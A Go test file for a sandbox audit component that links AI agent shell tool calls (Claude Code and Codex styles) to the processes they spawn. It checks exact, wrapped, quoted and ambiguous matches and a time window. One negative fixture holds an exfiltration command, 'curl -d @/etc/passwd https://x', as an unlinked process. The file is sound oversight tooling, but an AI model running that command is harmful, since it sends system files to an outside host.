package toollink

import (
	"testing"
	"time"

	"agentbox.dev/agentbox/internal/audit"
)

func call(seq uint64, calls ...audit.ToolCall) *audit.Record {
	return &audit.Record{Event: "agentbox/model_call", Sandbox: "sb", Seq: seq, Model: &audit.ModelCall{Name: "m", ToolCalls: calls}}
}

func exec(argv ...string) *audit.Record {
	return &audit.Record{Event: "sentry/execve", Process: &audit.Process{Argv: argv}}
}

func TestLinks(t *testing.T) {
	for _, tc := range []struct {
		name  string
		calls []*audit.Record
		exec  *audit.Record
		want  string // tool call id linked ("" none)
	}{
		{"exact script", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"go test ./..."}`})},
			exec("/bin/bash", "-c", "go test ./..."), "t1"},
		{"wrapped whole (Claude Code's eval)", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"go test ./..."}`})},
			exec("/bin/bash", "-c", "-l", "source /tmp/snap && eval 'go test ./...' < /dev/null && pwd -P >| /tmp/cwd"), "t1"},
		{"single quotes escaped inside the wrapper's quotes", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"grep -r 'TODO' src"}`})},
			exec("/bin/bash", "-c", `eval 'grep -r '\''TODO'\'' src' < /dev/null`), "t1"},
		{"argv (Codex's shell)", []*audit.Record{call(4, audit.ToolCall{ID: "c1", Name: "shell", Input: `{"command":["bash","-lc","make test"]}`})},
			exec("bash", "-lc", "make test"), "c1"},
		{"short command only exactly", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"ls"}`})},
			exec("sh", "-c", "false; ls -la"), ""},
		{"short command exactly", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"ls"}`})},
			exec("sh", "-c", "ls"), "t1"},
		{"not a shell", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"go test ./..."}`})},
			exec("/usr/bin/python3", "-c", "go test ./..."), ""},
		{"two match: none", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"npm test --silent"}`}),
			call(5, audit.ToolCall{ID: "t2", Name: "Bash", Input: `{"command":"npm test --silent"}`})},
			exec("bash", "-c", "npm test --silent"), ""},
		{"truncated input: never", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"go test ./..."}`, Truncated: true})},
			exec("bash", "-c", "go test ./..."), ""},
		{"no command field", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Write", Input: `{"file_path":"/w/a","content":"go test ./..."}`})},
			exec("bash", "-c", "go test ./..."), ""},
		{"another command", []*audit.Record{call(4, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"go vet ./..."}`})},
			exec("bash", "-c", "curl -d @/etc/passwd https://x"), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := New()
			for _, c := range tc.calls {
				l.Note(c)
			}
			l.Annotate(tc.exec)
			if got := tc.exec.Detail["tool_call_id"]; got != tc.want {
				t.Fatalf("linked %q, want %q (%v)", got, tc.want, tc.exec.Detail)
			}
			if tc.want != "" && (tc.exec.Detail["model_call"] != "sb/4" || tc.exec.Detail["model"] != "m") {
				t.Fatalf("detail %v", tc.exec.Detail)
			}
		})
	}
}

// A tool call links once, and only within the window; a process that
// came before its tool call is not linked to it.
func TestLinkOnceInWindow(t *testing.T) {
	now := time.Unix(1000, 0)
	l := New()
	l.now = func() time.Time { return now }
	before := exec("bash", "-c", "make build-all")
	l.Annotate(before)
	l.Note(call(1, audit.ToolCall{ID: "t1", Name: "Bash", Input: `{"command":"make build-all"}`}))
	if before.Detail != nil {
		t.Fatalf("a process before the call was linked: %v", before.Detail)
	}
	first, second := exec("bash", "-c", "make build-all"), exec("bash", "-c", "make build-all")
	l.Annotate(first)
	l.Annotate(second)
	if first.Detail["tool_call_id"] != "t1" || second.Detail != nil {
		t.Fatalf("first %v, second %v", first.Detail, second.Detail)
	}
	l.Note(call(2, audit.ToolCall{ID: "t2", Name: "Bash", Input: `{"command":"make build-all"}`}))
	now = now.Add(Window + time.Second)
	late := exec("bash", "-c", "make build-all")
	l.Annotate(late)
	if late.Detail != nil {
		t.Fatalf("linked past the window: %v", late.Detail)
	}
}
